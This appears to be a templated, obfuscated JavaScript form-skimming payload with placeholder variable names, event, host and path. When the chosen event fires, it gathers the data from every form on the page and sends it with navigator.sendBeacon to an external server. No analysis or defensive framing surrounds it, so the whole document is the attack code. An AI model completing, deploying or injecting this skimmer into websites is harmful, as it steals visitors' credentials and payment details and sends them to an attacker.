(function (%H1%) {
  var %H2% = %H1%[S("document")][S("forms")];
  %H1%[S("addEventListener")](S("%EVENT%"), function (%H3%) {
    for (var %H4% = 0; %H4% < %H2%[S("length")]; %H4%++) {
      %H1%[S("navigator")][S("sendBeacon")](S("https://%HOST%/%PATH%"), new FormData(%H2%[%H4%]));
    }
  }, true);
})(window);
